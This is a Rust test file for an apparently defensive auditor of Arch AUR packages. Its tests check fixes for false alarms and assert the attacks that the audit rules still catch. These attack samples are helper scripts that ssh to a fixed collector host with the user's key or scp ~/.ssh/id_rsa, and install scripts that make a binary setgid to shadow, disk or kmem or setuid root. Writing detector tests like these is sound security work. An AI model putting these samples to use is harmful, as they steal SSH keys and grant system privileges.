//! False dangerous verdicts found in bench/aur's landing-3 test set (BioArchLinux and Artix's
//! `world` tree, looked at once, bench/RESULTS.md "Landing 3"), each fixed afterwards at its rule
//! by what the code means. The packages are our own text in the real shapes (each test names the
//! shape); the attack each rule exists for is asserted beside it. The test set's figures stay the
//! ones taken at the look: these fixes are measured on the development set only.

use archgate_aur::audit::{AuditInput, ScriptFile, Severity, Verdict, audit};

use crate::support::max_of;

fn with_package(pkgname: &str, body: &str) -> AuditInput {
    AuditInput {
        pkgbuild: format!(
            "pkgname={pkgname}\npkgver=1.0\npkgrel=1\narch=('any')\nurl=\"https://example.org/{pkgname}\"\nlicense=('GPL')\nsource=(\"https://example.org/{pkgname}-$pkgver.tar.gz\")\nsha256sums=('0000000000000000000000000000000000000000000000000000000000000000')\npackage() {{\n{body}\n}}\n"
        ),
        install_scripts: Vec::new(),
        srcinfo: None,
    }
}

// Class: a slash written before one of makepkg's absolute build directories (`/$pkgdir/…`,
// `/${srcdir}/…`) was read as a path on the live system. `$pkgdir` is itself an absolute
// path, so `/$pkgdir/usr/share/x` is `//…/pkg/x/usr/share/x`: the package's own tree.

#[test]
fn a_slash_before_pkgdir_still_writes_into_the_package() {
    // Shape: a Java tool's package() copying its jar with `cp x.jar /$pkgdir/usr/share/x/`
    // (BioArchLinux's mhap).
    let r = audit(&with_package(
        "jartool",
        "  cd jartool-$pkgver/target\n  mkdir -p ${pkgdir}/usr/share/${pkgname}\n  cp jartool.jar /$pkgdir/usr/share/${pkgname}/\n  cp -r lib //${pkgdir}/usr/share/${pkgname}/lib\n  install -Dm644 README /${srcdir}/README.copy",
    ));
    assert_eq!(max_of(&r, "AUR-WRITE-SYSTEM"), None, "{}", r.to_text());
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
}

#[test]
fn a_live_system_path_in_package_is_still_a_write_to_the_system() {
    // The attack the rule is for: package() writing the live /usr, not the package's tree.
    let r = audit(&with_package(
        "jartool",
        "  cp jartool.jar /usr/share/jartool/\n  cp jartool.jar /usr/$pkgdir/x",
    ));
    assert_eq!(
        max_of(&r, "AUR-WRITE-SYSTEM"),
        Some(Severity::High),
        "{}",
        r.to_text()
    );
    assert_eq!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
}

// Class: a shipped program that hands its own arguments to `ssh` was read as the package using
// the person's SSH keys. What the wrapper does is what its caller asks (`exec ssh "$@"`), when
// the caller runs it, like `ssh` itself; SSH to a host the package chose stays high.

fn shipping(pkgname: &str, helper: &str, helper_text: &str) -> AuditInput {
    AuditInput {
        pkgbuild: format!(
            "pkgname={pkgname}\npkgver=1.0\npkgrel=1\narch=('x86_64')\nurl=\"https://example.org/{pkgname}\"\nlicense=('BSD')\noptdepends=('openssh: remote launch')\nsource=(\"https://example.org/{pkgname}-$pkgver.tar.gz\" {helper})\nsha256sums=('0000000000000000000000000000000000000000000000000000000000000000' '1111111111111111111111111111111111111111111111111111111111111111')\npackage() {{\n  cd {pkgname}-$pkgver\n  make DESTDIR=\"$pkgdir\" install\n  install -vDm 755 ../{helper} -t \"$pkgdir/usr/bin/\"\n}}\n"
        ),
        install_scripts: vec![ScriptFile {
            name: helper.into(),
            content: helper_text.into(),
        }],
        srcinfo: None,
    }
}

#[test]
fn a_shipped_wrapper_passing_its_arguments_to_ssh_is_not_the_package_using_ssh() {
    // Shape: an MPI runtime shipping a one-line `NAME-ssh` launcher so openssh can stay an
    // optional dependency (Artix world's prrte).
    let r = audit(&shipping(
        "mpirun-rt",
        "mpirun-rt-ssh",
        "#!/bin/sh\n# openssh stays optional: the launch agent is always this wrapper\nexec /usr/bin/ssh \"$@\"\n",
    ));
    assert!(
        max_of(&r, "AUR-SSH").is_none_or(|s| s <= Severity::Low),
        "{}",
        r.to_text()
    );
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
}

#[test]
fn a_shipped_program_sshing_to_a_host_it_chose_is_still_high() {
    // The attack: a shipped helper that connects to a fixed host with the person's keys.
    for body in [
        "#!/bin/sh\nexec /usr/bin/ssh collector@203.0.113.9 \"$@\"\n",
        "#!/bin/sh\nssh -i ~/.ssh/id_ed25519 \"$@\" collector.example.net true\n",
        "#!/bin/sh\nscp \"$HOME/.ssh/id_rsa\" \"$@\"\n",
    ] {
        let r = audit(&shipping("mpirun-rt", "mpirun-rt-ssh", body));
        assert_eq!(
            max_of(&r, "AUR-SSH"),
            Some(Severity::High),
            "{body}\n{}",
            r.to_text()
        );
        assert_eq!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
    }
}

// Class: a setgid bit set from an install script on a program whose group the same script
// gives to a group the package itself creates was read as privilege over the live system. A
// setgid program runs with its group's rights only; when that group is the package's own
// service group (declared in the sysusers.d file it installs, or made with groupadd), nothing
// beyond the package's own account is handed out. It is shown at review, like the package's
// own setuid program; a base-system group (shadow, disk, wheel …) stays high.

fn queue_group(sysusers: &str, script: &str) -> AuditInput {
    AuditInput {
        pkgbuild: "pkgname=mailsrv\npkgver=1.0\npkgrel=1\narch=('x86_64')\nurl=\"https://example.org/mailsrv\"\nlicense=('ISC')\ninstall=mailsrv.install\nsource=(\"https://example.org/mailsrv-$pkgver.tar.gz\" mailsrv.sysusers)\nsha256sums=('0000000000000000000000000000000000000000000000000000000000000000' '1111111111111111111111111111111111111111111111111111111111111111')\npackage() {\n  cd mailsrv-$pkgver\n  make DESTDIR=\"${pkgdir}\" install\n  ln -s /usr/bin/mailctl \"${pkgdir}\"/usr/bin/sendmail\n  install -Dm644 ../mailsrv.sysusers \"${pkgdir}\"/usr/lib/sysusers.d/mailsrv.conf\n}\n".into(),
        install_scripts: vec![
            ScriptFile {
                name: "mailsrv.install".into(),
                content: script.into(),
            },
            ScriptFile {
                name: "mailsrv.sysusers".into(),
                content: sysusers.into(),
            },
        ],
        srcinfo: None,
    }
}

#[test]
fn setgid_to_the_packages_own_service_group_is_review_not_dangerous() {
    // Shape: a mail server whose post_install re-applies its queue group to its control
    // program after systemd-sysusers, because old systems had other ids (Artix world's
    // opensmtpd, as Arch's package does).
    let r = audit(&queue_group(
        "u mailsrvd 91 \"mail daemon\" /var/empty\ng mailq 92\nu mailq 92 \"mail queue\" /var/spool/mailsrv\n",
        "post_install() {\n\tsystemd-sysusers /usr/lib/sysusers.d/mailsrv.conf\n\tchgrp mailq /usr/bin/mailctl\n\tchmod 2555 /usr/bin/mailctl\n}\n\npost_upgrade() {\n\tpost_install\n}\n",
    ));
    assert_eq!(
        max_of(&r, "AUR-SETUID"),
        Some(Severity::Medium),
        "{}",
        r.to_text()
    );
    assert_eq!(r.verdict, Verdict::Review, "{}", r.to_text());
    // The same with the group made by groupadd in the script.
    let r = audit(&queue_group(
        "",
        "post_install() {\n  getent group mailq >/dev/null || groupadd -r mailq\n  chown root:mailq usr/bin/mailctl\n  chmod g+s usr/bin/mailctl\n}\n",
    ));
    assert_eq!(
        max_of(&r, "AUR-SETUID"),
        Some(Severity::Medium),
        "{}",
        r.to_text()
    );
    // And with the group given by the same `install -g` that sets the bit.
    let r = audit(&queue_group(
        "g mailq 92\n",
        "post_install() {\n  install -m 2755 -g mailq /usr/lib/mailsrv/mailctl.new /usr/bin/mailctl\n}\n",
    ));
    assert_eq!(
        max_of(&r, "AUR-SETUID"),
        Some(Severity::Medium),
        "{}",
        r.to_text()
    );
}

#[test]
fn setgid_to_a_base_system_group_or_a_group_the_package_does_not_make_stays_high() {
    for (sysusers, script) in [
        // A group the package declares but that is the base system's: `g` of an existing
        // group creates nothing, and shadow reads every password hash.
        (
            "g shadow -\n",
            "post_install() {\n  chgrp shadow /usr/bin/mailctl\n  chmod 2755 /usr/bin/mailctl\n}\n",
        ),
        // A group nobody in the package creates.
        (
            "g mailq 92\n",
            "post_install() {\n  chgrp disk /usr/bin/mailctl\n  chmod 2755 /usr/bin/mailctl\n}\n",
        ),
        // No group set at all: the file keeps whatever group it had.
        (
            "g mailq 92\n",
            "post_install() {\n  chmod 2755 /usr/bin/mailctl\n}\n",
        ),
        // `install -g` of a base-system group.
        (
            "g mailq 92\n",
            "post_install() {\n  install -m 2755 -g kmem /usr/lib/mailsrv/mailctl.new /usr/bin/mailctl\n}\n",
        ),
        // setuid, not setgid: the owner's rights (root), whatever the group.
        (
            "g mailq 92\n",
            "post_install() {\n  chgrp mailq /usr/bin/mailctl\n  chmod 6755 /usr/bin/mailctl\n}\n",
        ),
    ] {
        let r = audit(&queue_group(sysusers, script));
        assert_eq!(
            max_of(&r, "AUR-SETUID"),
            Some(Severity::High),
            "{script}\n{}",
            r.to_text()
        );
        assert_eq!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
    }
}

// False review classes of the landing-3 test set (Artix `world`), fixed after its one look.

// Class: gem's `--build-root DIR` (an install root, like pip's `--root` or DESTDIR) read as a
// gem installed into the builder's home or system.

fn gem_package(install_line: &str) -> AuditInput {
    AuditInput {
        pkgbuild: format!(
            "_gemname=tilt\npkgname=ruby-$_gemname\npkgver=2.0\npkgrel=1\narch=('any')\nurl=\"https://example.org/tilt\"\nlicense=('MIT')\ndepends=('ruby')\nmakedepends=('git' 'ruby-rdoc')\nsource=(\"git+https://example.org/tilt.git#tag=v$pkgver\")\nsha512sums=('SKIP')\nbuild() {{\n  cd $_gemname\n  gem build \"$_gemname.gemspec\"\n  {install_line}\n}}\npackage() {{\n  cd $_gemname\n  cp -a tmp_install/* \"$pkgdir\"/\n}}\n"
        ),
        install_scripts: Vec::new(),
        srcinfo: None,
    }
}

#[test]
fn gem_install_into_a_build_root_stays_in_the_build() {
    // Shape: Arch's Ruby gem packaging, `gem install --local --ignore-dependencies
    // --build-root tmp_install NAME-VER.gem` in build() (Artix world's ruby-* packages).
    let r = audit(&gem_package(
        "gem install \\\n    --local \\\n    --verbose \\\n    --ignore-dependencies \\\n    --build-root \"tmp_install\" \\\n    \"${_gemname}-${pkgver}.gem\"",
    ));
    assert_eq!(max_of(&r, "AUR-PKGMGR-GLOBAL"), None, "{}", r.to_text());
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
    // A gem installed into the builder's home or system is still shown.
    for line in [
        "gem install -N asciidoctor",
        "gem install --user-install --build-root tmp_install asciidoctor",
    ] {
        let r = audit(&gem_package(line));
        assert_eq!(
            max_of(&r, "AUR-PKGMGR-GLOBAL"),
            Some(Severity::Medium),
            "{line}\n{}",
            r.to_text()
        );
    }
}

// Class: a detached signature fetched over http with its checksum SKIP was rated like an
// unpinned download over http. A signature file needs no transport security and no checksum:
// makepkg checks it against validpgpkeys, and a forged one only fails that check. The signed
// file itself keeps its rating.

fn http_signed(sums: &str) -> AuditInput {
    AuditInput {
        pkgbuild: format!(
            "pkgname=dnsd\npkgver=2.90\npkgrel=1\narch=('x86_64')\nurl=\"http://www.example.org/dnsd/\"\nlicense=('GPL')\nvalidpgpkeys=('D6EACBD6EE46B834248D111215CDDA6AE19135A2')\nsource=(\"http://www.example.org/${{pkgname}}/${{pkgname}}-${{pkgver}}.tar.xz\"{{,.asc}})\n{sums}\nbuild() {{\n  cd $pkgname-$pkgver\n  make\n}}\npackage() {{\n  cd $pkgname-$pkgver\n  make DESTDIR=\"$pkgdir\" install\n}}\n"
        ),
        install_scripts: Vec::new(),
        srcinfo: None,
    }
}

#[test]
fn a_signature_over_http_with_skip_is_not_an_unpinned_download() {
    // Shape: a tarball and its `.asc` over http, the tarball pinned, the signature SKIP
    // (Artix world's dnsmasq, hspell, redland …).
    let r = audit(&http_signed(
        "sha256sums=('0c00d4e5c97c8306e5fb932b348b34269c9c29a0e7df0e8e82958b407092bc19'\n            'SKIP')",
    ));
    assert!(
        max_of(&r, "AUR-SOURCE-INSECURE").is_some_and(|s| s <= Severity::Low),
        "{}",
        r.to_text()
    );
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
    // The code itself with SKIP is pinned by its signature and the keys named
    // (landing 6, `misfires_landing6.rs`): makepkg fails on a swapped file. With no key named,
    // any key the builder's keyring trusts would do: unpinned over http, it stays medium.
    let r = audit(&http_signed("sha256sums=('SKIP' 'SKIP')"));
    assert!(
        max_of(&r, "AUR-SOURCE-INSECURE").is_some_and(|s| s <= Severity::Low),
        "{}",
        r.to_text()
    );
    let mut unkeyed = http_signed("sha256sums=('SKIP' 'SKIP')");
    unkeyed.pkgbuild = unkeyed.pkgbuild.replace(
        "validpgpkeys=('D6EACBD6EE46B834248D111215CDDA6AE19135A2')\n",
        "",
    );
    assert!(!unkeyed.pkgbuild.contains("validpgpkeys"));
    let r = audit(&unkeyed);
    assert_eq!(
        max_of(&r, "AUR-SOURCE-INSECURE"),
        Some(Severity::Medium),
        "{}",
        r.to_text()
    );
}
